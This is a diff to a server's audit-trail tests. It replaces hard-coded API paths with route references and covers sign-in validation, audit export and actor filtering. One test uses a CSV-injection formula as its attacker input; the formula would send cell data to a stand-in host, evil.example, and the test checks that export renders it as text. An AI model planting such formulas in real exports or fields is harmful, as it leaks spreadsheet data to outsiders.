@@ -137,7 +137,7 @@ describe('the audit trail', () => {
 
   it('refuses a sign-in whose ID is not valid Unicode, records nothing, and the chain stays intact', async () => {
     const before = await auditRows();
-    const refused = await server.call<ValidationErrorData>('/v1/user/signIn', { userId: 'a\uD800b@x.yz', password: 'x' });
+    const refused = await server.call<ValidationErrorData>(api.auth.signIn.path, { userId: 'a\uD800b@x.yz', password: 'x' });
     expect(refused.http).toBe(400);
     expect(refused.body.status).toBe(ERR.validation);
     expect(refused.body.data.fields).toEqual([expect.objectContaining({ field: 'userId', reason: 'invalidCharacters' })]);
@@ -169,7 +169,7 @@ describe('the audit trail', () => {
     const admin = await server.signIn(server.admin.userId, server.admin.password);
     const exported = await server.app.inject({
       method: 'POST',
-      url: '/server/v1/audit/export',
+      url: `/server${api.audit.exportCsv.path}`,
       payload: {},
       headers: { authorization: `Bearer ${admin.accessToken}` },
     });
@@ -185,12 +185,12 @@ describe('the audit trail', () => {
 
   it('exports a formula an attacker typed as text, never as a live formula', async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")@x.yz';
-    const failed = await server.call('/v1/user/signIn', { userId: formula, password: 'wrong password' });
+    const failed = await server.call(api.auth.signIn, { userId: formula, password: 'wrong password' });
     expect(failed.body.status).toBe(ERR.badCredentials);
     const admin = await server.signIn(server.admin.userId, server.admin.password);
     const exported = await server.app.inject({
       method: 'POST',
-      url: '/server/v1/audit/export',
+      url: `/server${api.audit.exportCsv.path}`,
       payload: { action: 'user.signInFailed' },
       headers: { authorization: `Bearer ${admin.accessToken}` },
     });
@@ -230,16 +230,16 @@ async function skippedSeqs(): Promise<number> {
 describe('the audit list', () => {
   it('finds failed and refused sign-ins by the typed ID in the actor filter, and no one else’s records by it', async () => {
     const typed = `someone.${Date.now()}@lab.test`;
-    await server.call('/v1/user/signIn', { userId: typed, password: 'not-the-password-1' });
+    await server.call(api.auth.signIn, { userId: typed, password: 'not-the-password-1' });
     const member = await server.createUser();
-    await server.call('/v1/user/signIn', { userId: member.userId, password: 'wrong-password-123' });
+    await server.call(api.auth.signIn, { userId: member.userId, password: 'wrong-password-123' });
     const admin = await server.as(server.admin);
     const byTyped = await admin(api.audit.list, { actor: typed, pageSize: 100 });
     expect(byTyped.body.data.list.map((r) => [r.action, r.targetId, r.actorUserId])).toEqual([['user.signInFailed', typed, null]]);
     const byMember = await admin(api.audit.list, { actor: member.userId, pageSize: 100 });
     expect(byMember.body.data.list.map((r) => r.action)).toEqual(['user.signInFailed']);
     // A record about a user done by someone else is not theirs: the typed-ID match is for sign-in attempts only.
-    expect((await admin('/v1/admin/user/update', { userNo: member.userNo, name: 'Renamed Member' })).body.status).toBe('0000');
+    expect((await admin(api.users.update, { userNo: member.userNo, name: 'Renamed Member' })).body.status).toBe('0000');
     const again = await admin(api.audit.list, { actor: member.userId, pageSize: 100 });
     expect(again.body.data.list.map((r) => r.action)).toEqual(['user.signInFailed']);
   });
